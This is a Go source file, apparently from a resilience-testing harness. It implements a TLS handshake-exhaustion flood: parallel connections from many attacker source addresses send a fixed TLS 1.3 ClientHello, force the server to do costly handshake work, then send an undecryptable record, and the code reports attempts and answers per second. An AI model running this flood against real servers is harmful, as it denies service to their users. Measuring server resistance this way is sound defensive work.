package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// An attacker waits so long for a connection to be accepted before it tries the
// next, and so long for an answer.
const (
	connectPatience  = 100 * time.Millisecond
	attackerPatience = 5 * time.Second
)

// attack is what the attackers did, each second.
type attack struct {
	Tried    float64 `json:"tried"`    // connections begun
	Answered float64 `json:"answered"` // of those, with the server's part of a handshake
}

// runAttack makes connections from all attackers' addresses for a time, atOnce
// from each and as many as it can. On each the server is made to do its part of a handshake, which
// costs it a signature and a key exchange; the attacker has no certificate to
// show, and answers with nonsense.
func runAttack(address string, length time.Duration, atOnce int) (*attack, error) {
	hello, err := clientHello()
	if err != nil {
		return nil, err
	}
	var tried, answered atomic.Int64
	var all sync.WaitGroup
	start := time.Now()
	for i := range attackerCount {
		dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: attacker(i)}, Timeout: connectPatience, KeepAlive: -1}
		for range atOnce {
			all.Go(func() {
				for time.Since(start) < length {
					tried.Add(1)
					conn, err := dialer.Dial("tcp4", address)
					if err != nil {
						continue
					}
					if failHandshake(conn, hello) {
						answered.Add(1)
					}
				}
			})
		}
	}
	all.Wait()
	took := time.Since(start).Seconds()
	return &attack{float64(tried.Load()) / took, float64(answered.Load()) / took}, nil
}

// nonsense is a record that nobody has the key of.
var nonsense = append([]byte{23, 3, 3, 0, 32}, make([]byte, 32)...)

// failHandshake makes a handshake that fails, and waits for its end. It says
// whether the server answered the ClientHello.
func failHandshake(conn net.Conn, hello []byte) bool {
	defer conn.Close()
	if conn.SetDeadline(time.Now().Add(attackerPatience)) != nil {
		return false
	}
	if _, err := conn.Write(hello); err != nil {
		return false
	}
	const handshake = 22 // what a record of it begins with (RFC 8446 section 5.1)
	var first [1]byte
	if _, err := conn.Read(first[:]); err != nil || first[0] != handshake {
		return false
	}
	if _, err := conn.Write(nonsense); err == nil {
		_, _ = io.Copy(io.Discard, conn)
	}
	return true
}

// clientHello is one of TLS 1.3. The same for every connection: to make one
// costs an attacker as much as the answer costs the server.
func clientHello() ([]byte, error) {
	ours, theirs := net.Pipe()
	defer theirs.Close()
	go func() {
		// It fails when nobody answers.
		_ = tls.Client(ours, &tls.Config{
			ServerName: "localhost", MinVersion: tls.VersionTLS13, CurvePreferences: []tls.CurveID{tls.X25519},
		}).Handshake()
		ours.Close()
	}()
	hello := make([]byte, 4096)
	n, err := theirs.Read(hello)
	if err != nil {
		return nil, fmt.Errorf("record a ClientHello: %w", err)
	}
	return hello[:n], nil
}
